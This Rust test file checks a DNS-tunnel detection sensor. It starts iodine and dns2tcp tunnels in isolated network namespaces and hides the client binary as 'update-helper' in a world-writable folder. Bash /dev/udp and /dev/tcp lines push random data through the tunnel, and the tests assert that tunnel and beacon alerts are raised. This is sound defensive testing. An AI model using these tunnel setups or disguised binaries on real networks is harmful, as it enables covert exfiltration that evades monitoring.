//! Real tunnels, in network namespaces of their own: iodine and dns2tcp at work, and iodine with nothing to do. The sensor runs
//! live at the caller's end and has to say who it is and below which domain.
//!
//! Without the tools (`scripts/setup --test` installs them) or privilege the cases say that they skip; with `CI=true` that is
//! a failure. The server end has no way out, so nothing leaves the lab.

#![expect(clippy::indexing_slicing, clippy::unwrap_used, reason = "a panic is a failed test here")]

use std::fs::{self, File};
use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::{Mutex, MutexGuard, PoisonError};
use std::thread;
use std::time::{Duration, Instant};

use serde_json::Value;
use sonde_tests::emulate::sensor::Sensor;
use sonde_tests::netns::{Caller, Lab};
use sonde_tests::program::{Scratch, run, say, sonde};

/// What the tunnels carry data below.
const ZONE: &str = "tunnel-of-a-test.example";
/// How long a tunnel may take to stand, and a finding to come: test machines are slow.
const PATIENCE: Duration = Duration::from_secs(60);

/// One sensor at a time: each sees every process of the machine.
static TURN: Mutex<()> = Mutex::new(());

/// A lab with both ends apart, and what runs in it.
struct Stage {
    running: Vec<Child>,
    lab: Lab,
    scratch: Scratch,
    /// Where an intruder would keep a program: in a folder that anyone can write to.
    lair: tempfile::TempDir,
    _turn: MutexGuard<'static, ()>,
}

/// Where a program lies, if it does.
fn installed(name: &str) -> Option<PathBuf> {
    let folders = ["/usr/sbin", "/usr/bin"].map(Path::new);
    folders.iter().map(|folder| folder.join(name)).find(|path| path.is_file())
}

impl Stage {
    /// `None` where it cannot be, said on stderr.
    fn new(name: &str, tools: &[&str]) -> Option<Self> {
        let turn = TURN.lock().unwrap_or_else(PoisonError::into_inner);
        let missing = tools.iter().find(|tool| installed(tool).is_none());
        let lab = match missing {
            Some(tool) => Err(format!("{tool} is not installed (scripts/setup --test)")),
            None if !Path::new("/dev/net/tun").exists() => Err("no /dev/net/tun".to_owned()),
            None => Lab::new(Caller::Apart).map_err(|error| format!("no lab: {error}")),
        };
        match lab {
            Ok(lab) => {
                let lair = tempfile::tempdir().unwrap();
                Some(Self { running: Vec::new(), lab, scratch: Scratch::new(name), lair, _turn: turn })
            }
            Err(why) => {
                // Whether a kernel has tunnels is not for the set-up to mend.
                let can = std::env::var("CI").as_deref() == Ok("true") && Path::new("/dev/net/tun").exists();
                assert!(!can, "CI can run a tunnel: {why}");
                say(&format!("SKIPPED: {why}"));
                None
            }
        }
    }

    /// A copy of a tool where an intruder would keep it.
    fn hidden(&self, tool: &str) -> PathBuf {
        let copy = self.lair.path().join("update-helper");
        fs::copy(installed(tool).unwrap(), &copy).unwrap();
        copy
    }

    /// Runs something in the background, its output in a file of that name.
    fn run(&mut self, mut command: Command, name: &str) {
        let output = File::create(self.scratch.file(name)).unwrap();
        command.stdin(Stdio::null()).stdout(output.try_clone().unwrap()).stderr(output);
        // A group of its own, so that what it starts ends with it.
        self.running.push(command.process_group(0).spawn().unwrap());
    }

    /// Waits until a program has said something.
    fn wait_for(&self, name: &str, text: &str) {
        let deadline = Instant::now() + PATIENCE;
        loop {
            let said = fs::read(self.scratch.file(name)).unwrap_or_default();
            let said = String::from_utf8_lossy(&said).into_owned();
            if said.contains(text) {
                return;
            }
            assert!(Instant::now() < deadline, "{name} did not come to `{text}`:\n{said}");
            thread::sleep(Duration::from_millis(100));
        }
    }

    /// A line of shell at one of the ends.
    fn shell(&self, at_server: bool, line: &str) -> Command {
        let bash = Path::new("/bin/bash");
        let mut command = if at_server { self.lab.at_server(bash) } else { self.lab.at_caller(bash) };
        command.args(["-c", line]);
        command
    }

    /// The sensor, at the caller's end.
    fn sensor(&self) -> Sensor {
        let wrapper = self.scratch.file("sonde-at-caller");
        let namespace = self.lab.caller_namespace().unwrap();
        let line =
            format!("#!/bin/sh\nexec nsenter --net=/run/netns/{namespace} {} \"$@\"\n", sonde().display());
        fs::write(&wrapper, line).unwrap();
        fs::set_permissions(&wrapper, fs::Permissions::from_mode(0o755)).unwrap();
        let options: [&str; 0] = [];
        Sensor::start(&wrapper, self.scratch.path(), options)
            .unwrap_or_else(|log| panic!("no sensor:\n{log}"))
    }

    /// Both ends of iodine, up.
    fn iodine(&mut self) {
        let server = self.lab.server(4).to_string();
        let mut far = self.lab.at_server(&installed("iodined").unwrap());
        far.args(["-f", "-c", "-P", "of-a-test", "-l", &server, "10.97.0.1/27", ZONE]);
        self.run(far, "iodined");
        self.wait_for("iodined", "Listening to dns");
        let mut near = self.lab.at_caller(&self.hidden("iodine"));
        near.args(["-f", "-r", "-P", "of-a-test", &server, ZONE]);
        self.run(near, "iodine");
        self.wait_for("iodine", "Connection setup complete");
    }
}

impl Drop for Stage {
    fn drop(&mut self) {
        for child in &mut self.running {
            if let Some(group) = i32::try_from(child.id()).ok().and_then(rustix::process::Pid::from_raw) {
                let _ = rustix::process::kill_process_group(group, rustix::process::Signal::KILL);
            }
            let _ = child.wait();
        }
    }
}

/// Waits for the alert of a class below the tunnels' domain, from the hidden program.
fn found(stage: &Stage, sensor: &mut Sensor, rule: &str) -> Value {
    let wanted =
        |alert: &Value| alert["rule"]["id"] == rule && alert["destination"]["registered_domain"] == ZONE;
    let alert = sensor.wait_for_alert(PATIENCE, wanted).unwrap_or_else(|| {
        let events = sensor.events();
        let asked =
            events.iter().filter(|event| event["query"].as_str().is_some_and(|name| name.ends_with(ZONE)));
        let alerts: Vec<_> = sensor.alerts().iter().map(|alert| alert["message"].to_string()).collect();
        panic!(
            "no {rule}; {} of {} events are queries below {ZONE}; alerts {alerts:?}; log:\n{}",
            asked.count(),
            events.len(),
            sensor.log().join("\n")
        )
    });
    let path = alert["process"]["executable"].as_str().unwrap_or_default();
    assert_eq!(path, stage.lair.path().join("update-helper").to_str().unwrap(), "{alert}");
    alert
}

fn techniques(alert: &Value) -> Vec<&str> {
    alert["threat"]["technique"]["id"].as_array().into_iter().flatten().filter_map(Value::as_str).collect()
}

#[test]
fn iodine_at_work_is_a_tunnel() {
    let Some(mut stage) = Stage::new("iodine", &["iodine", "iodined"]) else { return };
    let mut sensor = stage.sensor();
    stage.iodine();
    // Twenty kilobytes that cannot be compressed, through the tunnel to nowhere.
    let line = "for n in {1..40}; do head -c 500 /dev/urandom > /dev/udp/10.97.0.1/9; sleep 0.05; done";
    let send = stage.shell(false, line);
    stage.run(send, "send");
    let alert = found(&stage, &mut sensor, "sonde.dns.tunnel");
    assert_eq!(alert["sonde"]["severity"], "critical", "{alert}");
    assert!(alert["sonde"]["dns"]["name_bytes"].as_u64().unwrap() >= 4_000, "{alert}");
    say(&format!("iodine: {}", alert["message"]));
    say(&format!("iodine: techniques {:?}", techniques(&alert)));
}

#[test]
fn iodine_with_nothing_to_do_is_a_rhythm_of_queries() {
    let Some(mut stage) = Stage::new("idle", &["iodine", "iodined"]) else { return };
    // The tunnel stands before the sensor begins, so that all there is are its signs of life, four seconds apart.
    stage.iodine();
    thread::sleep(Duration::from_secs(2));
    let mut sensor = stage.sensor();
    let alert = found(&stage, &mut sensor, "sonde.beacon.dns");
    let median = alert["sonde"]["evidence"]["interval_median_secs"].as_f64().unwrap();
    assert!((3.0..=5.0).contains(&median), "{alert}");
    say(&format!("iodine, idle: {}", alert["message"]));
}

#[test]
fn dns2tcp_at_work_is_a_tunnel() {
    let Some(mut stage) = Stage::new("dns2tcp", &["dns2tcpc", "dns2tcpd"]) else { return };
    let mut sensor = stage.sensor();
    let server = stage.lab.server(4).to_string();
    let sink = "import socket; s = socket.create_server(('127.0.0.1', 7777)); c, _ = s.accept()\n\
                while c.recv(4096): pass";
    let mut command = stage.lab.at_server(Path::new("/usr/bin/python3"));
    command.args(["-c", sink]);
    stage.run(command, "sink");
    let folder = stage.scratch.path().display().to_string();
    let settings = format!(
        "listen = {server}\nport = 53\nuser = nobody\nchroot = {folder}\ndomain = {ZONE}\nresources = sink:127.0.0.1:7777\n"
    );
    let settings = stage.scratch.write("dns2tcpd.conf", settings.as_bytes());
    let mut far = stage.lab.at_server(&installed("dns2tcpd").unwrap());
    far.args(["-F", "-d", "1", "-f"]).arg(settings);
    stage.run(far, "dns2tcpd");
    thread::sleep(Duration::from_secs(1));
    let mut near = stage.lab.at_caller(&stage.hidden("dns2tcpc"));
    near.args(["-r", "sink", "-z", ZONE, "-l", "5555", &server]);
    stage.run(near, "dns2tcpc");
    stage.wait_for("dns2tcpc", "Listening on port");
    let send =
        stage.shell(false, "exec 3<>/dev/tcp/127.0.0.1/5555; head -c 20000 /dev/urandom >&3; sleep 30");
    stage.run(send, "send");
    let alert = found(&stage, &mut sensor, "sonde.dns.tunnel");
    assert_eq!(alert["sonde"]["severity"], "critical", "{alert}");
    say(&format!("dns2tcp: {}", alert["message"]));
}

/// Rules of the detectors that count names, answers and resolvers.
const RULES: [&str; 4] =
    ["sonde.dns.tunnel", "sonde.dns.bypass", "sonde.dns.fast_flux", "sonde.dns.rebinding"];

/// The captures and logs are not ours to ship: the case says that it was skipped where there are none.
#[test]
fn of_all_real_captures_and_logs_the_tunnel_is_found_and_nothing_else_is() {
    let Some(data) = sonde_tests::program::shared("data") else { return };
    let mut folders = vec![data.clone()];
    let (mut inputs, mut found) = (0, Vec::new());
    while let Some(folder) = folders.pop() {
        let mut files = Vec::new();
        for entry in fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            match path.extension().and_then(|extension| extension.to_str()) {
                _ if path.is_dir() => folders.push(path),
                Some("gz" | "zip" | "pcap" | "pcapng") => files.push(path),
                _ => {}
            }
        }
        files.sort();
        for path in files {
            let ran = run(["replay", path.to_str().unwrap(), "--format", "ndjson"], b"");
            assert!([0, 65].contains(&ran.code), "{}: {}", path.display(), ran.stderr);
            inputs += 1;
            for line in ran.text().lines() {
                let alert: Value = serde_json::from_str(line).unwrap();
                if RULES.contains(&alert["rule"]["id"].as_str().unwrap_or_default()) {
                    let file = path.strip_prefix(&data).unwrap().display().to_string();
                    say(&format!("{file}: {} {}", alert["sonde"]["severity"], alert["message"]));
                    found.push((file, alert));
                }
            }
        }
    }
    say(&format!("{inputs} captures and logs, {} findings", found.len()));
    assert!(inputs >= 40, "{inputs}");
    let [(file, alert)] = found.as_slice() else { panic!("{} findings", found.len()) };
    assert_eq!(file, "ndpi/bad-dns-traffic.pcap.gz");
    assert_eq!(alert["rule"]["id"], "sonde.dns.tunnel");
    assert_eq!(alert["destination"]["registered_domain"], "skullseclabs.org");
    assert_eq!(alert["sonde"]["severity"], "high", "no process is known, but names tell enough");
}
